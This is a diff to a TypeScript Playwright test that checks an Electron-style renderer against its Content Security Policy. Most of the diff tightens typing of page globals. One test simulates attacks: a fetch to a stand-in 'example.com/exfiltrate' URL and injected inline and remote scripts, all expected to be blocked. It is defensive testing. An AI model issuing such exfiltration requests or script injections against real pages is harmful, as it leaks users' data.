@@ -18,6 +18,18 @@ import { PROJECT_ROOT, runCli, tempDir } from '../helpers/env';
 import { writeCorpus } from '../unit/claude/corpus';
 
 const ORIGIN = 'http://reverie.invalid';
+
+/** The page's globals these callbacks touch (they run in Chromium; this project's Node typecheck has no DOM lib). */
+interface PageElement { textContent: string | null; src: string }
+interface PageGlobals extends Record<string, unknown> {
+  document: {
+    body: { append(e: PageElement): void };
+    createElement(tag: 'script'): PageElement;
+    addEventListener(type: 'securitypolicyviolation', fn: (e: { violatedDirective: string; blockedURI: string; sourceFile: string; lineNumber: number }) => void): void;
+  };
+  getComputedStyle(e: unknown): { fontFamily: string };
+}
+
 const TYPES: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.woff2': 'font/woff2', '.svg': 'image/svg+xml', '.png': 'image/png' };
 
 describe('the built renderer under the desktop CSP and preload API', () => {
@@ -60,10 +72,10 @@ describe('the built renderer under the desktop CSP and preload API', () => {
       return core.dispatch(method, input);
     });
     await page.addInitScript(() => {
-      const w = window as unknown as Record<string, unknown>;
+      const w = globalThis as unknown as PageGlobals;
       const violations: string[] = [];
       w.__violations = violations;
-      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
+      w.document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
       const navigators: ((screen: string) => void)[] = [];
       w.__navigate = (screen: string) => navigators.forEach((l) => l(screen));
       w.reverie = Object.freeze({
@@ -83,7 +95,7 @@ describe('the built renderer under the desktop CSP and preload API', () => {
     await core?.close();
   });
 
-  const violations = () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations.slice());
+  const violations = () => page.evaluate(() => ((globalThis as unknown as PageGlobals).__violations as string[]).slice());
   /**
    * Violations other than zod's feature probe: zod 4 tries `new Function("")` once to decide
    * whether it may compile parsers, catches the refusal and validates without eval. The CSP is right
@@ -106,14 +118,14 @@ describe('the built renderer under the desktop CSP and preload API', () => {
     expect(await unexpectedViolations()).toEqual([]);
     expect(outside).toEqual([]);
     // The bundled font and styles loaded under font-src/style-src 'self'.
-    const font = await page.evaluate(() => getComputedStyle(document.body).fontFamily);
+    const font = await page.evaluate(() => (globalThis as unknown as PageGlobals).getComputedStyle((globalThis as unknown as PageGlobals).document.body).fontFamily);
     expect(font).toMatch(/Inter/);
   });
 
   it('follows the menu\'s "show this screen"', async () => {
-    await page.evaluate(() => (window as unknown as { __navigate(s: string): void }).__navigate('dreams'));
+    await page.evaluate(() => ((globalThis as unknown as PageGlobals).__navigate as (s: string) => void)('dreams'));
     await page.getByRole('main', { name: 'Dreams' }).waitFor();
-    await page.evaluate(() => (window as unknown as { __navigate(s: string): void }).__navigate('settings'));
+    await page.evaluate(() => ((globalThis as unknown as PageGlobals).__navigate as (s: string) => void)('settings'));
     await page.getByRole('main', { name: 'Settings' }).waitFor();
     expect(await unexpectedViolations()).toEqual([]);
   });
@@ -122,6 +134,7 @@ describe('the built renderer under the desktop CSP and preload API', () => {
     const before = (await violations()).length;
     await page.evaluate(async () => {
       await fetch('https://example.com/exfiltrate').catch(() => undefined);
+      const { document } = (globalThis as unknown as PageGlobals);
       const inline = document.createElement('script');
       inline.textContent = 'window.__inlineRan = true';
       document.body.append(inline);
@@ -134,7 +147,7 @@ describe('the built renderer under the desktop CSP and preload API', () => {
     expect(seen).toMatch(/connect-src https:\/\/example\.com/);
     expect(seen).toMatch(/script-src(-elem)? inline/);
     expect(seen).toMatch(/script-src(-elem)? https:\/\/cdn\.example\.com/);
-    expect(await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan)).toBeUndefined();
+    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).__inlineRan)).toBeUndefined();
     // Chromium never sent the foreign script's request: the CSP stopped it.
     expect(failed).toContain('https://cdn.example.com/x.js csp');
     expect(refused.some((m) => /connect-src 'none'/.test(m))).toBe(true);
